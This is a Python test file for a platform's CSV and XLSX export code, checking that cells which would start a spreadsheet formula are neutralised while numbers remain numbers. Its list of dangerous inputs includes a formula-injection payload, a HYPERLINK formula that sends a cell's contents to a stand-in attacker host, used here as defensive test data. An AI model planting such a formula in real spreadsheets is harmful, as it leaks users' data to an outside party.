"""Spreadsheets the platform writes never carry a live formula: texts that a spreadsheet would
evaluate are neutralised, numbers stay numbers."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from hall32.web import exports

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")',
    "+33 6 12",
    "-2+3",
    "@SUM(A1)",
    "\tA",
    "\rB",
]
HARMLESS = ["Michelin", "Léa O'Neil", "", "3 = 3", "a-b"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_csv_cell_that_starts_like_a_formula_gets_a_leading_quote(text):
    buffer = io.StringIO()

    exports.write_csv(buffer, [[text, 12]])

    row = next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert row == ["'" + text, "12"]


@pytest.mark.parametrize("text", HARMLESS)
def test_a_csv_cell_that_is_plain_text_is_written_as_it_is(text):
    buffer = io.StringIO()

    exports.write_csv(buffer, [[text]])

    assert next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")) == [text]


def test_a_negative_number_stays_a_number_in_csv():
    buffer = io.StringIO()

    exports.write_csv(buffer, [[-3, -2.5]])

    assert buffer.getvalue().strip() == "-3;-2.5"


def test_the_csv_download_starts_with_a_byte_order_mark_for_excel():
    response = exports.csv_response("x.csv", [["Société", "=1+1"]])

    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())
    assert response.content.decode("utf-8-sig").strip() == "Société;'=1+1"


def workbook(rows):
    content = exports.xlsx_bytes([exports.Sheet("Feuille", ["Nom", "Solde"], rows)])
    return content, load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("text", DANGEROUS)
def test_an_xlsx_cell_that_starts_like_a_formula_is_stored_as_text(text):
    content, sheet = workbook([[text, 1]])

    cell = sheet["A2"]
    # XML reads a carriage return back as a line feed; the cell is text either way.
    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")
    assert cell.quotePrefix
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_a_negative_number_stays_a_number_in_xlsx():
    _content, sheet = workbook([["Client", -3], ["Autre", -2.5]])

    assert sheet["B2"].value == -3 and sheet["B2"].data_type == "n"
    assert sheet["B3"].value == -2.5


def test_control_characters_that_xlsx_cannot_hold_are_dropped_instead_of_failing():
    _content, sheet = workbook([["Atelier\x01 Dupont", 1]])

    assert sheet["A2"].value == "Atelier Dupont"
